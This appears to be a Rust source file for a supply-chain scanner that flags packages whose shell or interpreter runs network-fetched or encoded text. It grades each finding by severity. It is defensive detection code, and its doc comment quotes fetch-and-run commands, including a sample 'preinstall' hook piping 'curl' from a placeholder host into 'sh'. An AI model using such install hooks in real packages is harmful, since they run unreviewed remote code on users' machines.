//! A shell runs text that comes from the network, or that was encoded so that nobody reads it.
//!
//! `curl … | sh`, `iex (iwr …)`, `powershell -EncodedCommand`: nothing of what runs is in the package.
//!
//! **What to do:** do not install it. **Limits:** where a function does it only on demand, it is told as medium: tools that install
//! other tools do. **Example:** `"preinstall": "curl -s https://x.invalid/i | sh"`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/inst-pipe-shell",
    catalogue: "INST-PIPE-SHELL",
    title: "a shell runs what the network answers",
    severity: Critical,
    ecosystems: &[],
    run,
};

/// How the sinks of shell readers are called.
const SHELLS: &[&str] = &[
    "sh",
    "sh -c",
    "source",
    "eval",
    "iex",
    "Invoke-Expression",
    "powershell -EncodedCommand",
    "node",
    "nodejs",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "bun",
    "deno",
];

fn run(package: &Package, findings: &mut Findings) {
    for (code, from, to, _) in package.flows() {
        let is_hidden = from.what == What::Decode && to.detail == "powershell -EncodedCommand";
        let is_fetched = matches!(from.what, What::NetReceive | What::ChannelReceive | What::DnsReceive);
        // `eval` of JavaScript is no shell's.
        let is_own_eval = code.language == Some(Language::JavaScript) && to.detail == "eval";
        if to.what == What::Eval
            && !is_own_eval
            && SHELLS.contains(&to.detail.as_str())
            && (is_fetched || is_hidden || from.what == What::Decode)
        {
            let known = words::has(&from.detail, Class::Runtime);
            let grade = match (early(code, to), from.what) {
                (true, What::Decode) if !is_hidden => (High, Sure),
                (true, _) if known => (High, Sure),
                (true, _) => (Critical, Sure),
                (false, _) => (Medium, Likely),
            };
            let source = if from.what == What::Decode {
                "encoded text".to_owned()
            } else {
                format!("what {} answers", host(&from.detail))
            };
            findings.tell(code, to, grade, &format!("a shell runs {source} {}", when(code, to)));
        }
    }
}
